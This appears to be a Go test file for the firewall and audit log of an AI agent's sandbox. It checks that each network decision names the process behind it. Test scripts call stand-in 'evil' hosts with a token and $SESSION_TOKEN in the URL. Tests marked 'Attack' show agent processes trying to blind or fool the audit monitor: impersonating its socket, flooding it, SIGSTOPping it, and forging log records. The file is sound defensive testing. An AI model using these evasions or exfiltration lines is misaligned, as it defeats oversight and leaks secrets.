@@ -1,0 +1,582 @@
+package main
+
+import (
+	"encoding/binary"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/org/claude-sandbox/firewall"
+	"github.com/org/claude-sandbox/firewall/audit"
+	"github.com/org/claude-sandbox/internal/redact"
+	"github.com/org/claude-sandbox/internal/testenv"
+)
+
+// witnessed is the firewall of a container that joins its network and begins
+// with `sbx-init reap`.
+func witnessed(t testing.TB) (*internet, *box) {
+	t.Helper()
+	in := newInternet(t)
+	b := newBox(t, in.Sandbox, guardPolicy)
+	startSidecar(t, b, "--witness")
+	return in, b
+}
+
+// joined runs a command as the agent's container does, in the firewall's network.
+func joined(t testing.TB, in *internet, argv ...string) result {
+	t.Helper()
+	cmd := first(t, 0o111, argv...)
+	var r result
+	in.Sandbox.Do(func() { r = reapResult(t, cmd) })
+	return r
+}
+
+// about returns the first record of a kind.
+func about(records []audit.Record, layer audit.Layer, host string, port uint16) (audit.Record, bool) {
+	i := slices.IndexFunc(records, func(r audit.Record) bool {
+		return r.Layer == layer && r.Port == port && (r.Name == host || r.Dst == host)
+	})
+	if i < 0 {
+		return audit.Record{}, false
+	}
+	return records[i], true
+}
+
+// Every kind of decision names the process that caused it, by the number that
+// it has in the agent's container, in both topologies.
+func TestEveryDecisionNamesTheProcess(t *testing.T) {
+	curl, dig, bash := testenv.Program(t, "curl"), testenv.Program(t, "dig"), testenv.Program(t, "bash")
+	script := `
+		in_one() { ` + bash + ` -c 'echo $$; exec "$@"' - "$@"; }
+		in_one ` + dig + ` @` + dnsAddr + ` +tries=1 +time=5 evil.test | head -1
+		in_one ` + dig + ` @` + dnsAddr + ` +tries=1 +time=5 ok.test | head -1
+		in_one ` + curl + ` -sS --noproxy '*' --resolve ok.test:80:` + okAddr + ` --max-time 5 -H 'Authorization: Bearer verysecretword' http://ok.test/ 2>&1 | head -1
+		in_one ` + curl + ` -sS --noproxy '*' --resolve evil.test:80:` + okAddr + ` --max-time 5 http://evil.test/ | head -1
+		in_one ` + curl + ` -sS --noproxy '*' --max-time 5 --next "http://` + evilAddr + `:8080/?token=verysecretword&$SESSION_TOKEN" 2>&1 | head -1
+		in_one ` + curl + ` -sS --noproxy '*' --max-time 5 'http://[` + evilAddr6 + `]:8443/' 2>&1 | head -1
+		in_one ` + bash + ` -c 'exec 3<>/dev/udp/` + evilAddr + `/4433; echo x >&3; read -t 0.3 <&3' | head -1`
+	wants := []struct {
+		layer   audit.Layer
+		host    string
+		port    uint16
+		verdict firewall.Verdict
+		program string
+	}{
+		{audit.LayerDNS, "evil.test", 0, firewall.Deny, dig},
+		{audit.LayerDNS, "ok.test", 0, firewall.Allow, dig},
+		{audit.LayerHTTP, "ok.test", 80, firewall.Allow, curl},
+		{audit.LayerHTTP, "evil.test", 80, firewall.Deny, curl},
+		{audit.LayerIP, evilAddr, 8080, firewall.Deny, curl},
+		{audit.LayerIP, evilAddr6, 8443, firewall.Deny, curl},
+		{audit.LayerIP, evilAddr, 4433, firewall.Deny, bash},
+	}
+	for name, run := range map[string]func(t *testing.T) (result, *box){
+		"single": func(t *testing.T) (result, *box) {
+			b := newBox(t, newInternet(t).Sandbox, guardPolicy)
+			b.pid1 = true
+			cmd := b.command(bash, "-c", script)
+			cmd.Env = append(cmd.Env, firstSecret)
+			return b.finish(cmd), b
+		},
+		"sidecar": func(t *testing.T) (result, *box) {
+			in, b := witnessed(t)
+			return joined(t, in, bash, "-c", script), b
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			for attempt := range 5 { // the search gives up after a while, which on a busy machine is soon
+				r, b := run(t)
+				r.mustExit(t, 0)
+				pids := strings.Fields(r.stdout)
+				if len(pids) != len(wants) {
+					t.Fatalf("stdout: %s\n%s", r.stdout, r.stderr)
+				}
+				b.settled(t)
+				var missing []string
+				for i, want := range wants {
+					program, err := filepath.EvalSymlinks(want.program)
+					if err != nil {
+						t.Fatal(err)
+					}
+					rec, ok := about(b.records(), want.layer, want.host, want.port)
+					switch {
+					case !ok || rec.PID == 0:
+						missing = append(missing, fmt.Sprintf("%+v", want))
+					case strconv.Itoa(rec.PID) != pids[i] || rec.Exe != program || rec.Guess || rec.Verdict != want.verdict || rec.UID == nil || *rec.UID != agentUID || !strings.Contains(rec.Cmd, filepath.Base(want.program)):
+						t.Errorf("recorded %+v, want process %s of %+v", rec, pids[i], want)
+					}
+				}
+				text, err := os.ReadFile(b.path("run/audit.jsonl"))
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, secret := range []string{"verysecretword", "canary"} {
+					if strings.Contains(string(text), secret) {
+						t.Errorf("a secret is on record:\n%s", text)
+					}
+				}
+				if len(missing) == 0 || t.Failed() {
+					return
+				}
+				if attempt == 4 {
+					t.Errorf("no process of\n%s\nin\n%s", strings.Join(missing, "\n"), text)
+				}
+			}
+		})
+	}
+}
+
+// settled waits until a sidecar has written what it knows.
+func (b *box) settled(t testing.TB) {
+	t.Helper()
+	if slices.Contains(b.flags, "--sidecar") {
+		eventually(t, "the last packet is on record", func() bool {
+			_, ok := about(b.records(), audit.LayerIP, evilAddr, 4433)
+			return ok
+		})
+	}
+}
+
+// How many of a burst of refused connections have their process on record.
+func TestRefusedConnectionsNameTheProcess(t *testing.T) {
+	in, b := witnessed(t)
+	const n = 40
+	curl, bash := testenv.Program(t, "curl"), testenv.Program(t, "bash")
+	r := joined(t, in, bash, "-c", fmt.Sprintf(`for i in $(seq 1 %d); do %s -sS --noproxy '*' --max-time 5 http://%s:$((7000+i))/ 2>/dev/null; done; true`, n, curl, evilAddr))
+	r.mustExit(t, 0)
+	var refused, named int
+	eventually(t, "all are on record", func() bool {
+		refused, named = 0, 0
+		for _, rec := range b.records() {
+			if rec.Layer == audit.LayerIP && rec.Port > 7000 {
+				refused++
+				if strings.HasSuffix(rec.Exe, "/curl") {
+					named++
+				}
+			}
+		}
+		return refused == n
+	})
+	t.Logf("%d of %d refused connections have their process on record", named, n)
+	if named < n/2 {
+		t.Errorf("only %d of %d refused connections have their process on record", named, n)
+	}
+}
+
+// Claude Code's own process cannot be read by anybody of its user. It is on
+// record as a guess while no other process hides, and nobody is otherwise.
+func TestAProcessThatHidesIsAGuess(t *testing.T) {
+	bin := binaries(t)
+	hidden := filepath.Join(t.TempDir(), "claude")
+	text, err := os.ReadFile(filepath.Join(bin, "agent"))
+	if err == nil {
+		err = errors.Join(os.Chmod(filepath.Dir(hidden), 0o755), os.Chmod(filepath.Dir(filepath.Dir(hidden)), 0o755), os.WriteFile(hidden, text, 0o755), os.Chmod(hidden, 0o111))
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	in, b := witnessed(t)
+	bash := testenv.Program(t, "bash")
+	r := joined(t, in, bash, "-c", `export `+agentEnv+`=connect
+		`+hidden+` `+evilAddr+`:7101 one
+		`+bin+`/agent `+evilAddr+`:7102 readable
+		`+agentEnv+`=wait `+hidden+` & until `+hidden+` `+evilAddr+`:7103 two; do :; done
+		kill %1; exit 0`)
+	r.mustExit(t, 0)
+	pids := strings.Fields(r.stdout)
+	find := func(port uint16) (rec audit.Record) {
+		eventually(t, "it is on record", func() (ok bool) {
+			rec, ok = about(b.records(), audit.LayerIP, evilAddr, port)
+			return ok
+		})
+		return rec
+	}
+	if rec := find(7101); strconv.Itoa(rec.PID) != pids[0] || !rec.Guess || rec.Exe != "" || !strings.Contains(rec.Cmd, "claude "+evilAddr) {
+		t.Errorf("the one who hides: %+v, want a guess at process %s", rec, pids[0])
+	}
+	if rec := find(7102); strconv.Itoa(rec.PID) != pids[1] || rec.Guess || rec.Exe == "" {
+		t.Errorf("one who does not hide: %+v, want process %s", rec, pids[1])
+	}
+	if rec := find(7103); rec.PID != 0 || rec.Guess || rec.UID == nil || *rec.UID != agentUID {
+		t.Errorf("one of two who hide: %+v, want nobody", rec)
+	}
+}
+
+// connectAgent connects once, which is refused, and prints its number.
+func connectAgent(to string) int {
+	conn, err := net.Dial("tcp", to)
+	if err == nil {
+		conn.Close()
+	}
+	if !errors.Is(err, syscall.ECONNREFUSED) {
+		fmt.Println("not refused:", err)
+		return 1
+	}
+	fmt.Println(os.Getpid())
+	return 0
+}
+
+// forgeAgent tries to answer in the place of the container's first process, and
+// to have that one answer or give up.
+func forgeAgent() {
+	name := &net.UnixAddr{Name: whoseSocket, Net: "unixpacket"}
+	say := func(what string, err error) {
+		word := "ok"
+		if err != nil {
+			word = "failed: " + err.Error()
+		}
+		fmt.Printf("%s: %s\n", what, word)
+	}
+	for _, network := range []string{"unixpacket", "unix"} {
+		l, err := net.ListenUnix(network, &net.UnixAddr{Name: whoseSocket, Net: network})
+		if err == nil {
+			l.Close()
+		}
+		if network == "unixpacket" {
+			say("register in its place", err)
+		}
+	}
+	ask := func(message []byte) error {
+		conn, err := net.DialUnix("unixpacket", nil, name)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
+		if _, err := conn.Write(message); err != nil {
+			return err
+		}
+		_, err = conn.Read(make([]byte, maxAnswer))
+		return err
+	}
+	say("ask it", ask(make([]byte, questionSize)))
+	say("send it garbage", ask([]byte(strings.Repeat("x", 60_000))))
+	var open []net.Conn
+	for range 2000 { // so that the firewall finds no room
+		conn, err := net.DialUnix("unixpacket", nil, name)
+		if err != nil {
+			break
+		}
+		open = append(open, conn)
+	}
+	say("limit its files", unix.Prlimit(1, unix.RLIMIT_NOFILE, &unix.Rlimit{}, nil))
+	say("stop it", stopped(1))
+	fmt.Println(len(open) > 0, "done")
+}
+
+func stopped(pid int) error {
+	_ = syscall.Kill(pid, syscall.SIGSTOP)
+	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	if err == nil && !strings.Contains(string(stat), ") T ") {
+		err = errors.New("it goes on")
+	}
+	return err
+}
+
+// Attack: the agent's programs answer in the place of the container's first
+// process, a first or a second time, or keep that one from answering.
+func TestAttackAnsweringForTheFirstProcess(t *testing.T) {
+	in, b := witnessed(t)
+	agent, bash := filepath.Join(binaries(t), "agent"), testenv.Program(t, "bash")
+	r := joined(t, in, bash, "-c", `export `+agentEnv+`
+		`+agentEnv+`=forge `+agent+`
+		`+agentEnv+`=connect `+agent+` `+evilAddr+`:7201
+		`+agentEnv+`=forge `+agent+`
+		`+agentEnv+`=connect `+agent+` `+evilAddr+`:7202
+		for i in 1 2 3 4 5 6 7 8 9; do `+agentEnv+`=connect `+agent+` `+evilAddr+`:721$i; done`)
+	r.mustExit(t, 0)
+	r.mustSay(t, "true done")
+	for line := range strings.Lines(r.stdout) {
+		if strings.HasSuffix(line, ": ok\n") {
+			t.Errorf("the agent could %s", line)
+		}
+	}
+	named := 0
+	eventually(t, "all are on record", func() bool {
+		_, ok := about(b.records(), audit.LayerIP, evilAddr, 7219)
+		return ok
+	})
+	for _, rec := range b.records() {
+		if rec.PID == 0 {
+			continue
+		}
+		named++
+		if !strings.HasSuffix(rec.Exe, "/agent") || !slices.Contains(strings.Fields(r.stdout), strconv.Itoa(rec.PID)) {
+			t.Errorf("recorded %+v", rec)
+		}
+	}
+	if named < 5 {
+		t.Errorf("only %d of 11 connections have their process on record after the attack", named)
+	}
+}
+
+// Attack: a first process that is stopped. Names are answered, connections
+// refused and both recorded, without the process.
+func TestAttackTheFirstProcessIsStopped(t *testing.T) {
+	in, b := witnessed(t)
+	dig, bash := testenv.Program(t, "dig"), testenv.Program(t, "bash")
+	script := `
+		ask() { ` + dig + ` @` + dnsAddr + ` +tries=1 +time=5 "$1" | grep -o 'status: [A-Z]*'; }
+		ask evil.test; echo ready; read go
+		for i in 1 2 3 4 5; do ask n$i.evil.test; done
+		for i in 1 2 3 4 5; do (exec 3<>/dev/tcp/` + evilAddr + `/730$i) 2>&1 | grep -q refused && echo closed; done`
+	cmd := first(t, 0o111, bash, "-c", script)
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := os.Create(filepath.Join(t.TempDir(), "out"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer out.Close()
+	cmd.Stdout = out
+	in.Sandbox.Do(func() { err = cmd.Start() })
+	if err != nil {
+		t.Fatal(err)
+	}
+	said := func() string { text, _ := os.ReadFile(out.Name()); return string(text) }
+	eventually(t, "the script waits", func() bool { return strings.Contains(said(), "ready") })
+	pid := childOf(t, cmd.Process.Pid)
+	if err := syscall.Kill(pid, syscall.SIGSTOP); err != nil {
+		t.Fatal(err)
+	}
+	_, _ = stdin.Write([]byte("\n"))
+
+	eventually(t, "all are refused", func() bool {
+		return strings.Count(said(), "REFUSED") == 6 && strings.Count(said(), "closed") == 5
+	})
+	_ = syscall.Kill(pid, syscall.SIGCONT)
+	if err := waitFor(cmd); err != nil {
+		t.Errorf("%v\n%s", err, said())
+	}
+	eventually(t, "all are on record", func() bool {
+		_, ok := about(b.records(), audit.LayerIP, evilAddr, 7305)
+		return ok
+	})
+	for _, rec := range b.records() {
+		if stopped := rec.Name != "evil.test"; stopped && rec.PID != 0 || rec.UID == nil {
+			t.Errorf("recorded %+v", rec)
+		}
+	}
+}
+
+// childOf returns the only child of a process.
+func childOf(t testing.TB, pid int) int {
+	t.Helper()
+	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", pid, pid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	child, err := strconv.Atoi(strings.TrimSpace(string(text)))
+	if err != nil {
+		t.Fatalf("the children of %d: %q", pid, text)
+	}
+	return child
+}
+
+// Attack: a process whose command line holds a record of its own making,
+// escapes, no text at all, or a megabyte.
+func TestAttackNamesThatForgeRecords(t *testing.T) {
+	agent, bash := filepath.Join(binaries(t), "agent"), testenv.Program(t, "bash")
+	const forged = `x"}` + "\n" + `{"ts":"2026-01-01T00:00:00Z","verdict":"allow","layer":"ip","dst":"203.0.113.1","port":1,"proto":"tcp","pid":1,"exe":"/innocent","reason":"forged"}` + "\n"
+	names := map[int]string{
+		7401: `"$FORGED"`, 7402: `$'\e]0;title\a\e[2J\r\n'`, 7403: `$'\xff\xfe\xc3\x28'`, 7404: `$(printf '%0120000d' 0) $(printf '%0120000d' 0)`,
+		7405: `'` + strings.Repeat(`<"&`, 200) + `'`,
+	}
+	script := `export ` + agentEnv + `=connect FORGED=` + "'" + forged + "'\n"
+	for port, name := range names {
+		alias := name // of the program itself, as far as it is one word
+		if port == 7404 {
+			alias = "long"
+		}
+		script += fmt.Sprintf("(exec -a %s %s %s:%d %s)\n", alias, agent, evilAddr, port, name)
+	}
+	in, b := witnessed(t)
+	r := joined(t, in, bash, "-c", script)
+	r.mustExit(t, 0)
+	var records []audit.Record
+	eventually(t, "all are on record", func() bool {
+		records = b.records()
+		for port := range names {
+			if _, ok := about(records, audit.LayerIP, evilAddr, uint16(port)); !ok {
+				return false
+			}
+		}
+		return true
+	})
+	text, err := os.ReadFile(b.path("run/audit.jsonl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for line := range strings.Lines(string(text)) {
+		var rec audit.Record
+		if err := json.Unmarshal([]byte(line), &rec); err != nil || rec.Dst == "203.0.113.1" || rec.Verdict != firewall.Deny {
+			t.Errorf("a line that is not the firewall's (%v): %s", err, line)
+		}
+		if len(line) > 4<<10 || strings.ContainsAny(line, "\x1b\r\a") {
+			t.Errorf("the line is not fit to be shown: %q", line)
+		}
+	}
+	named := 0
+	for _, rec := range records {
+		if rec.PID != 0 {
+			named++
+			if !strings.HasSuffix(rec.Exe, "/agent") || !slices.Contains(strings.Fields(r.stdout), strconv.Itoa(rec.PID)) {
+				t.Errorf("recorded %+v", rec)
+			}
+		}
+	}
+	if named < len(names)/2 {
+		t.Errorf("%d of %d names are on record", named, len(names))
+	}
+}
+
+// Attack: whoever answers is not ours. Nobody's answer may say more than whose
+// socket it is, nor about another user's, nor keep the firewall waiting.
+func TestAttackAnswersThatAreNone(t *testing.T) {
+	testenv.Root(t)
+	in := newInternet(t)
+	answers := map[string]struct {
+		say  func(number uint64) []byte
+		want owner
+	}{
+		"an answer": {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"pid":7,"exe":"/bin/x","cmd":"x y"}`, n) }, owner{PID: 7, Exe: "/bin/x", Cmd: "x y"}},
+		"a long name": {func(n uint64) []byte {
+			return fmt.Appendf(nil, `{"number":%d,"pid":7,"exe":%q,"cmd":%q}`, n, strings.Repeat("e", 1000), strings.Repeat("c", 1000))
+		}, owner{PID: 7, Exe: strings.Repeat("e", maxExe), Cmd: strings.Repeat("c", maxCmd)}},
+		"a megabyte": {func(n uint64) []byte {
+			return fmt.Appendf(nil, `{"number":%d,"pid":7,"cmd":%q}`, n, strings.Repeat("c", 100<<10))
+		}, owner{}},
+		"nothing":             {func(uint64) []byte { return []byte{} }, owner{}},
+		"silence":             {func(uint64) []byte { return nil }, owner{}},
+		"no JSON":             {func(uint64) []byte { return []byte("\x00\xff{{{") }, owner{}},
+		"another question's":  {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"pid":7}`, n+1) }, owner{}},
+		"a late one":          {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"pid":7}`, n-1) }, owner{}},
+		"a negative process":  {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"pid":-7}`, n) }, owner{}},
+		"a process too great": {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"pid":99999999}`, n) }, owner{}},
+		"a name of nobody":    {func(n uint64) []byte { return fmt.Appendf(nil, `{"number":%d,"exe":"/bin/x"}`, n) }, owner{}},
+		"other fields": {func(n uint64) []byte {
+			return fmt.Appendf(nil, `{"number":%d,"pid":7,"verdict":"allow","rule":"*"}`, n)
+		}, owner{}},
+	}
+	serve := func(uid int, say func(uint64) []byte) func() {
+		var l *net.UnixListener
+		var err error
+		in.Sandbox.As(uid, func() {
+			l, err = net.ListenUnix("unixpacket", &net.UnixAddr{Name: whoseSocket, Net: "unixpacket"})
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		go func() {
+			for {
+				conn, err := l.AcceptUnix()
+				if err != nil {
+					return
+				}
+				go func() {
+					defer conn.Close()
+					q := make([]byte, questionSize)
+					for {
+						if n, err := conn.Read(q); err != nil || n != questionSize {
+							return
+						}
+						if text := say(binary.BigEndian.Uint64(q)); text != nil {
+							if _, err := conn.Write(text); err != nil {
+								return
+							}
+						}
+					}
+				}()
+			}
+		}()
+		return func() { l.Close() }
+	}
+	ask := func(a *asker, uid int) (o owner) {
+		in.Sandbox.Do(func() { o = a.find(socket{uid, 4711}) })
+		a.silence = time.Time{}
+		return o
+	}
+	for name, tt := range answers {
+		end := serve(agentUID, tt.say)
+		a := &asker{}
+		for range 3 {
+			// An answer may be late on a busy machine, and then there is none.
+			if got := ask(a, agentUID); got != tt.want && got != (owner{}) {
+				t.Errorf("%s: %+v, want %+v", name, got, tt.want)
+			} else if tt.want != (owner{}) && got == (owner{}) {
+				eventually(t, name, func() bool { return ask(a, agentUID) == tt.want })
+			}
+		}
+		if got := ask(a, agentUID+1); got != (owner{}) {
+			t.Errorf("%s, for another user's socket: %+v", name, got)
+		}
+		end()
+	}
+	end := serve(0, answers["an answer"].say)
+	if got := ask(&asker{}, 0); got != (owner{}) {
+		t.Errorf("an answer of root's: %+v", got)
+	}
+	end()
+	if got := ask(&asker{}, agentUID); got != (owner{}) {
+		t.Errorf("without anybody: %+v", got)
+	}
+}
+
+// FuzzAnswer holds that what comes over the channel is bounded, whatever it is.
+func FuzzAnswer(f *testing.F) {
+	f.Add([]byte(`{"number":1,"pid":7,"exe":"/bin/x","cmd":"x y","guess":true}`))
+	f.Add([]byte(`{"number":18446744073709551615,"PID":7,"exe":"` + strings.Repeat("\xff", 300) + `"}`))
+	f.Fuzz(func(t *testing.T, text []byte) {
+		a, err := parseAnswer(text)
+		if err != nil && a != (answer{}) || a.PID < 0 || a.PID > maxPID || len(a.Exe) > maxExe || len(a.Cmd) > maxCmd || a.PID == 0 && a.owner != (owner{}) {
+			t.Errorf("%q: %+v, %v", text, a, err)
+		}
+	})
+}
+
+// What it costs to ask the agent's container, beside the search itself.
+func BenchmarkAskingTheFirstProcess(b *testing.B) {
+	ends, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		b.Fatal(err)
+	}
+	var conns [2]*net.UnixConn
+	for i, fd := range ends {
+		file := os.NewFile(uintptr(fd), "pair")
+		conn, err := net.FileConn(file)
+		file.Close()
+		if err != nil {
+			b.Fatal(err)
+		}
+		conns[i] = conn.(*net.UnixConn)
+		defer conns[i].Close()
+	}
+	holder := exec.Command("sleep", "60")
+	if err := holder.Start(); err != nil {
+		b.Fatal(err)
+	}
+	defer func() { _ = holder.Process.Kill(); _ = holder.Wait() }()
+	f := &finder{uid: os.Getuid(), redact: redact.New(redact.Options{Patterns: true})}
+	go answerQuestions(conns[1], func(uint64) owner { return f.describe(holder.Process.Pid) })
+	a := &asker{conn: conns[0], uid: agentUID}
+	for b.Loop() {
+		if o := a.find(socket{agentUID, 1}); o.PID == 0 {
+			b.Fatal("no answer")
+		}
+	}
+}
